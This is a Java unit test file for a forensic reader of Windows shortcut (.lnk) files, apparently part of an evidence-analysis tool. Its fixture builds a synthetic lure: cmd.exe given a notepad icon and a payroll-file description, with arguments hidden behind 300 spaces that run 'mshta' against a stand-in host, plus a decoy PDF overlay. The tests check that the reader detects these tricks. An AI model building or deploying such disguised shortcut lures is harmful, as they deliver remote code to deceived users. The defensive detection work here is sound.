package io.ashiato.readers.lnk;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.argumentSet;

import io.ashiato.bytes.ByteSource;
import io.ashiato.bytes.Damage;
import io.ashiato.bytes.Digests;
import io.ashiato.model.EvidenceKind;
import io.ashiato.model.Facts;
import io.ashiato.readers.ArtefactReading;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.Charset;
import java.time.Instant;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments.ArgumentSet;
import org.junit.jupiter.params.provider.FieldSource;

class ShortcutReaderTest {
    private static final Instant WRITTEN = Instant.parse("2020-03-02T04:05:06.123456700Z");
    private static final Instant MADE = Instant.parse("2020-04-02T03:04:05.000001Z");
    private static final String VOLUME = "3f2504e0-4f89-41d3-9a0c-0305e82c3301";
    private static final String SID = "S-1-5-21-1004336348-1177238915-682003330-1001";
    private static final String CMD = "C:\\Windows\\System32\\cmd.exe";
    private static final byte[] DECOY = "%PDF-1.4 decoy".getBytes(UTF_8);

    /// Every structure that the writer knows.
    private static LnkWriter lure() {
        return new LnkWriter()
                .target(CMD)
                .times(WRITTEN, WRITTEN, WRITTEN)
                .fileSize(232_960)
                .mft(4711, 3)
                .showCommand(7)
                .hotKey(0x0643)
                .volume(3, 0x5A3C_19F0L, "OS", CMD)
                .description("給与一覧.txt")
                .relativePath("..\\cmd.exe")
                .workingDir("C:\\Users\\kei")
                .arguments(" ".repeat(300) + "/c mshta https://short.example.com/a")
                .icon("%SystemRoot%\\System32\\notepad.exe", 2)
                .environmentTarget("%SystemRoot%\\System32\\mshta.exe")
                .tracker("desktop-q1", VOLUME, MADE, "00:00:5e:00:53:1a")
                .authorSid(SID)
                .knownFolder("1ac14e77-02e7-4e5d-b744-2eb1ae5198b7", 0)
                .overlay(DECOY);
    }

    @Test
    void everyFactOfALureIsRead() throws IOException {
        ArtefactReading reading = read(lure().bytes());
        Facts facts = reading.facts();

        assertThat(reading.kind()).isEqualTo(EvidenceKind.SHORTCUT);
        assertThat(reading.damage()).isEmpty();
        assertThat(facts.text("target")).contains(CMD);
        assertThat(facts.text("id_list_path")).contains(CMD);
        assertThat(facts.text("local_path")).contains(CMD);
        assertThat(facts.time("created")).contains(WRITTEN);
        assertThat(facts.number("file_size")).hasValue(232_960);
        assertThat(facts.text("show_command")).contains("minimized");
        assertThat(facts.text("hot_key")).contains("CTRL+ALT+C");
        assertThat(facts.text("description")).contains("給与一覧.txt");
        assertThat(facts.text("working_dir")).contains("C:\\Users\\kei");
        assertThat(facts.text("icon")).contains("%SystemRoot%\\System32\\notepad.exe");
        assertThat(facts.text("volume_serial")).contains("5A3C19F0");
        assertThat(facts.text("volume_label")).contains("OS");
        assertThat(facts.text("drive_type")).contains("fixed");
        assertThat(facts.text("environment_target")).contains("%SystemRoot%\\System32\\mshta.exe");
        assertThat(facts.text("author_sid")).contains(SID);
        assertThat(facts.text("known_folder")).contains("1ac14e77-02e7-4e5d-b744-2eb1ae5198b7");
        assertThat(facts.texts("extra_blocks"))
                .containsExactly("environment", "tracker", "property_store", "known_folder");
    }

    @Test
    void trackerTellsMachineCardAndTime() throws IOException {
        Facts facts = read(lure().bytes()).facts();

        assertThat(facts.text("machine_id")).contains("desktop-q1");
        assertThat(facts.text("droid_volume")).contains(VOLUME);
        assertThat(facts.text("droid_file")).isEqualTo(facts.text("birth_droid_file"));
        assertThat(facts.text("mac")).contains("00:00:5e:00:53:1a");
        assertThat(facts.time("droid_time")).contains(MADE);
        assertThat(facts.flag("mac_invented")).isFalse();
        assertThat(facts.flag("target_moved")).isFalse();
    }

    /// A target that was moved keeps where it was born.
    @Test
    void movedTargetKeepsItsBirth() throws IOException {
        String birth = LnkWriter.objectId(MADE, "03:00:5e:00:53:01");
        String now = LnkWriter.objectId(WRITTEN, "00:00:5e:00:53:02");
        Facts facts = read(new LnkWriter()
                        .tracker("pc", VOLUME, now, VOLUME, birth)
                        .bytes())
                .facts();

        assertThat(facts.flag("target_moved")).isTrue();
        assertThat(facts.text("mac")).contains("00:00:5e:00:53:02");
        assertThat(facts.text("birth_mac")).contains("03:00:5e:00:53:01");
        assertThat(facts.time("birth_droid_time")).contains(MADE);
    }

    @Test
    void itemsTellNamesTimesAndFileReference() throws IOException {
        List<Facts> items = read(lure().bytes()).facts().groups("items");

        assertThat(items.stream().map(item -> item.text("type").orElseThrow()))
                .containsExactly("root_folder", "volume", "folder", "folder", "file");
        Facts file = items.getLast();
        assertThat(file.text("name")).contains("cmd.exe");
        assertThat(file.time("created")).contains(Instant.parse("2020-03-02T04:05:06Z"));
        assertThat(file.number("mft_entry")).hasValue(4711);
        assertThat(file.number("mft_sequence")).hasValue(3);
    }

    @Test
    void paddingThatHidesArgumentsIsTold() throws IOException {
        Facts facts = read(lure().bytes()).facts();

        assertThat(facts.number("arguments_padding")).hasValue(300);
        assertThat(facts.flag("arguments_hidden")).isTrue();
        assertThat(read(new LnkWriter().arguments("/c dir").bytes()).facts().flag("arguments_hidden"))
                .isFalse();
    }

    @Test
    void contradictionsAreTold() throws IOException {
        assertThat(read(lure().bytes()).facts().texts("mismatches"))
                .containsExactly(
                        "environment_target_differs_from_id_list",
                        "relative_path_differs_from_target",
                        "icon_differs_from_target");
        assertThat(read(new LnkWriter().target(CMD).icon(CMD, 0).bytes())
                        .facts()
                        .texts("mismatches"))
                .isEmpty();
    }

    /// The environment block decides what is started, the padding is not part of it.
    @Test
    void childrenAreTheCommandAndWhatWasAppended() throws IOException {
        List<ArtefactReading.Child> children = read(lure().bytes()).children();

        assertThat(children).extracting(ArtefactReading.Child::name).containsExactly("command", "overlay");
        assertThat(children)
                .extracting(ArtefactReading.Child::role)
                .containsExactly(ArtefactReading.Role.COMMAND, ArtefactReading.Role.EMBEDDED);
        assertThat(children.getFirst().content().first(200))
                .asString(UTF_8)
                .isEqualTo("%SystemRoot%\\System32\\mshta.exe /c mshta https://short.example.com/a");
        assertThat(children.getLast().content().first(200)).isEqualTo(DECOY);
        assertThat(read(lure().bytes()).facts().text("overlay_sha256")).contains(Digests.sha256(DECOY));
    }

    @Test
    void networkTargetIsJoined() throws IOException {
        Facts facts = read(new LnkWriter()
                        .network("\\\\files.example.com\\share", "plan.docx")
                        .bytes())
                .facts();

        assertThat(facts.text("network_path")).contains("\\\\files.example.com\\share\\plan.docx");
        assertThat(facts.text("target")).isEqualTo(facts.text("network_path"));
    }

    static final List<ArgumentSet> ANSI = List.of(
            argumentSet("Japanese", "windows-31j", "C:\\資料\\給与", "/c echo 見積書"),
            argumentSet("Japanese, kana", "windows-31j", "C:\\データ", "パスワード.txt"),
            argumentSet("Japanese, beyond JIS", "windows-31j", "C:\\髙橋", "①議事録"),
            argumentSet("French", "windows-1252", "C:\\Données", "/c echo café"),
            argumentSet("German", "windows-1252", "C:\\Müller", "Größe"),
            argumentSet("Russian", "windows-1251", "C:\\Документы", "Отчёт"),
            argumentSet("Korean", "x-windows-949", "C:\\문서", "보고서"),
            argumentSet("UTF-8", "UTF-8", "C:\\資料", "見積書"));

    /// Nothing in the file names the code page.
    @ParameterizedTest
    @FieldSource("ANSI")
    void codePageIsToldByTheTexts(String codePage, String folder, String arguments) throws IOException {
        Facts facts = read(new LnkWriter()
                        .ansi(Charset.forName(codePage))
                        .workingDir(folder)
                        .arguments(arguments)
                        .bytes())
                .facts();

        assertThat(facts.text("working_dir")).contains(folder);
        assertThat(facts.text("arguments")).contains(arguments);
    }

    /// The same file's name in Unicode settles it, against what looks likely.
    @Test
    void longNamesTellTheCodePage() throws IOException {
        Facts facts = read(new LnkWriter()
                        .ansi(Charset.forName("GBK"))
                        .target("C:\\报告.txt")
                        .workingDir("C:\\文档")
                        .bytes())
                .facts();

        assertThat(facts.text("working_dir")).contains("C:\\文档");
        assertThat(facts.text("ansi_code_page")).contains("gbk");
    }

    @Test
    void consoleTellsTheCodePageOfTheEast() throws IOException {
        var writer = new LnkWriter().ansi(Charset.forName("x-windows-950")).workingDir("C:\\文件");

        assertThat(read(writer.consoleCodePage(950).bytes()).facts().text("working_dir"))
                .contains("C:\\文件");
    }

    @Test
    void cutShortcutTellsWhatStoodBeforeTheCut() throws IOException {
        byte[] whole = lure().bytes();
        ArtefactReading reading = read(Arrays.copyOf(whole, 0x4C + 40));

        assertThat(reading.facts().time("created")).contains(WRITTEN);
        assertThat(reading.damage()).singleElement().isInstanceOf(Damage.Truncated.class);
        assertThat(reading.facts().text("overlay_sha256")).isEmpty();
    }

    @Test
    void notAShortcutIsDamage() throws IOException {
        assertThat(read(new byte[0]).damage()).extracting(Damage::field).containsExactly("header size");
        assertThat(read(new byte[0]).facts()).isEqualTo(Facts.NONE);
    }

    @Test
    void endlessListsAreCutAtTheirLimits() throws IOException {
        var writer = new LnkWriter();
        for (int i = 0; i < 70; i++) {
            writer.block(0xA000_00FFL, new byte[4]);
        }

        assertThat(read(writer.bytes()).damage())
                .singleElement()
                .isEqualTo(new Damage.OverLimit("extra blocks", 0x4C + 64 * 12, 64));
    }

    @Test
    void mutationsNeverEscape() throws IOException {
        long seed = 20_200_402;
        var random = new Random(seed);
        List<byte[]> links = List.of(
                lure().bytes(),
                new LnkWriter()
                        .ansi(Charset.forName("windows-31j"))
                        .target("C:\\資料\\表.xls")
                        .network("\\\\s\\共有", "表.xls")
                        .arguments("見積")
                        .bytes());
        for (int round = 0; round < 5_000; round++) {
            byte[] link = mutated(links.get(round % links.size()), random);
            assertThat(read(link).kind()).as("seed %s, round %s", seed, round).isEqualTo(EvidenceKind.SHORTCUT);
        }
    }

    private static byte[] mutated(byte[] sound, Random random) {
        byte[] copy = random.nextInt(4) == 0 ? Arrays.copyOf(sound, random.nextInt(sound.length)) : sound.clone();
        for (int changes = random.nextInt(6); changes > 0 && copy.length > 4; changes--) {
            int at = random.nextInt(copy.length - 3);
            switch (random.nextInt(3)) {
                case 0 -> copy[at] ^= (byte) (1 << random.nextInt(8));
                case 1 -> copy[at] = (byte) random.nextInt();
                default ->
                    ByteBuffer.wrap(copy)
                            .order(ByteOrder.LITTLE_ENDIAN)
                            .putInt(at, random.nextBoolean() ? -1 : random.nextInt(70_000)); // a length that lies
            }
        }
        return copy;
    }

    private static ArtefactReading read(byte[] link) throws IOException {
        return ShortcutReader.read(ByteSource.of(link));
    }
}
